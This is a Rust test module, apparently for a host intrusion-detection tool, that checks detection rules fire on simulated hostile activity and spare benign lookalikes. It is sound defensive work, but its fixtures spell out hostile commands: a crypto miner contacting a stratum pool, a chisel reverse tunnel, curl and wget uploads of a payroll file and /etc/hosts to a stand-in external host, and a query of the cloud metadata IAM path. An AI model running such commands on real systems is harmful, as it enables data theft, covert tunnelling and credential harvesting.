//! Miners, tunnels, uploads, and connections that the program behind them has no reason for.

use crate::{Host, Process};

pub(super) fn tell(host: &Host) {
    let root = host.login(0);
    miners(host, &root);
    tunnels(host, &root);
    uploads(host, &root);
    databases(host);
    clouds(host, &root);
}

fn miners(host: &Host, root: &Process) {
    host.fires("Miner started", || root.runs("/tmp/kswap -o stratum+tcp://pool.example.org:3333 -u wallet"));
    host.spares("Miner started", || root.runs("curl -s http://stratum.example.org/status"));
    let unknown = root.run("/tmp/kswap");
    host.fires("Mining pool contacted", || unknown.talks_to(40100, "203.0.113.99:3333"));
    host.spares("Mining pool contacted", || unknown.talks_to(40102, "10.20.0.5:3333"));
}

fn tunnels(host: &Host, root: &Process) {
    host.fires("Tunnel or anonymising proxy run", || root.runs("chisel client 203.0.113.7:8080 R:socks"));
    host.spares("Tunnel or anonymising proxy run", || {
        root.runs("ssh -N -L 8080:localhost:80 web.example.org")
    });
}

fn uploads(host: &Host, root: &Process) {
    host.fires("Data uploaded by command", || {
        root.runs("curl -F file=@/home/alice/payroll.ods https://203.0.113.7/up");
        root.runs("wget --post-file=/etc/hosts http://203.0.113.7/up");
    });
    host.spares("Data uploaded by command", || {
        root.runs("curl -sSfLO https://downloads.example.org/tool.tar.gz");
        root.runs("curl -T report.txt http://127.0.0.1:8080/in");
    });
}

fn databases(host: &Host) {
    let postgres = host.listening("/usr/lib/postgresql/17/bin/postgres -D /var/lib/postgresql/17/main", 5432);
    host.fires("Outbound connection of database", || postgres.talks_to(40200, "203.0.113.7:443"));
    host.spares("Outbound connection of database", || postgres.talks_to(40202, "10.20.0.6:5432"));
}

fn clouds(host: &Host, root: &Process) {
    let curl = root.run("curl -s http://169.254.169.254/latest/meta-data/iam/");
    host.fires("Cloud metadata service contacted", || curl.talks_to(40300, "169.254.169.254:80"));
    curl.exit();
    let agent = host.init().run("cloud-init single --name metadata");
    host.spares("Cloud metadata service contacted", || agent.talks_to(40302, "169.254.169.254:80"));
}
